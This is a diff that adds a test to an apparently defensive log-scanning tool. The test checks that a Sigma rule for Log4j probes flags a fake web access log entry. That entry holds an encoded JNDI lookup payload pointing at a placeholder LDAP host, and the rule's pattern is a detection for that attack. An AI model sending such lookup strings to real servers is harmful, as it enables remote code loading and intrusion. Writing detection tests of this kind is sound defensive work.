@@ -74,6 +74,33 @@ detection: { selection: { EventID: 4624, LogonType: 3 }, condition: selection }
     })
   })
 
+  test('rules for web servers are shown the requests of a web log, by whoever sent them through the proxies', () => {
+    const webRule = `title: A probe of Log4j
+id: 5f9f4a4e-3f6f-4f0e-9a53-0a3f0b6f1c12
+level: high
+logsource: { category: webserver }
+detection: { selection: { cs-method: GET, "cs-uri-query|contains": "\${jndi:" }, condition: selection }
+`
+    const line = (target: string): string =>
+      `192.0.2.80 - - [23/Jun/2026:02:52:48 +0000] "GET ${target} HTTP/1.1" 200 12 "-" "curl/8" "203.0.113.9"\n`
+    const cwd = makeFolder({
+      'access.log': line('/lookup?county=5') + line('/lookup?q=%24%7Bjndi:ldap://x.example/a%7D'),
+      'web.yml': webRule,
+      'office.toml': '[office]\nname = "County"\ntrusted_proxies = ["192.0.2.80"]\n',
+    })
+    const options = ['--rules', 'web.yml', 'access.log', '--hits', 'hits.ndjson', '--evidence', 'e.ndjson', '--json']
+    const run = bellwether(['scan', ...options, '--office', 'office.toml'], { cwd })
+    expect(run.status).toBe(0)
+    const hits = readFileSync(join(cwd, 'hits.ndjson'), 'utf8').trimEnd().split('\n')
+    expect(hits.map((hit) => JSON.parse(hit) as unknown)).toMatchObject([
+      { title: 'A probe of Log4j', file: 'access.log', record: 2 },
+    ])
+    const evidence = evidenceAt(join(cwd, 'e.ndjson')).filter(({ kinds }) => kinds.includes('rule-match'))
+    expect(evidence.map(({ raw }) => raw)).toEqual([expect.stringContaining('%24%7Bjndi')])
+    expect(run.stdout).toContain('203.0.113.9')
+    expect(bellwether(['scan', 'access.log', '--json'], { cwd }).stdout).not.toContain('A probe of Log4j')
+  })
+
   test('a mail in the name of a vendor is told, and stands whole in the evidence', () => {
     const cwd = makeFolder({ 'guides.eml': mail })
     const { status, stdout } = bellwether(['scan', 'guides.eml', '--evidence', 'e.ndjson'], { cwd })
